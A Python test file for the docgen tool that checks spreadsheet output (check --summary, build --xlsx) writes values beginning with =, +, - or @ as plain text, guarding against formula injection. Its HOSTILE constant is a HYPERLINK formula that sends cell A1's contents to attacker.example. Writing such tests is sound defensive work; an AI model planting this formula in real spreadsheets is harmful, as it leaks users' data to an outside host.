"""Text written to spreadsheets is text (issue 20): a file name, an issuer line or a hamlet name beginning with
=, +, - or @ was written as a live formula by ``check --summary`` (.xlsx, .csv) and ``build --xlsx``, and
docgen could then not read its own workbook back."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from click.testing import CliRunner

from docgen.build import build
from docgen.cli import main
from tests.conftest import PLAN_2022, SMALL

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize("name", ["=1+2.docx", "+1+2.docx", "-1+2.docx", "@SUM(1).docx"])
def test_check_summary_xlsx_and_csv_write_a_file_name_as_text(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(build(PLAN_2022).docx)
    assert CliRunner().invoke(main, ["check", "--summary", "tong-hop.xlsx", "--", name]).exit_code == 0
    cell = openpyxl.load_workbook(tmp_path / "tong-hop.xlsx").active.cell(2, 1)
    assert cell.data_type == "s" and cell.value == name
    assert CliRunner().invoke(main, ["check", "--summary", "tong-hop.csv", "--", name]).exit_code == 0
    with open(tmp_path / "tong-hop.csv", encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[1][0] == "'" + name  # OWASP: a leading apostrophe, read as text by Excel and Calc


def test_an_ordinary_text_in_the_csv_is_unchanged(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "thinh-duc.docx").write_bytes(build(PLAN_2022).docx)
    CliRunner().invoke(main, ["check", "thinh-duc.docx", "--summary", "tong-hop.csv"])
    with open(tmp_path / "tong-hop.csv", encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[1][0] == "thinh-duc.docx" and rows[1][1] == "85/KH-UBND"


def test_build_xlsx_writes_a_hamlet_name_as_text_and_import_reads_it_back(tmp_path, monkeypatch):
    plan = tmp_path / "plans" / "small.toml"
    plan.parent.mkdir()
    text = SMALL.read_text(encoding="utf-8")
    assert 'name = "Xóm Một"' in text
    plan.write_text(text.replace('name = "Xóm Một"', f"name = '{HOSTILE}'"), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["build", str(plan), "--xlsx", "--force"])
    assert result.exit_code == 0, result.output
    [workbook] = (tmp_path / "output").glob("*.xlsx")
    sheet = openpyxl.load_workbook(workbook).worksheets[0]
    names = [c for c in sheet["B"] if c.value == HOSTILE]
    assert names and all(c.data_type == "s" for c in names)
    result = CliRunner().invoke(main, ["import", str(plan), str(workbook), "--dry-run"])
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    assert "không có gì thay đổi" in result.output  # the figures read back are the plan's

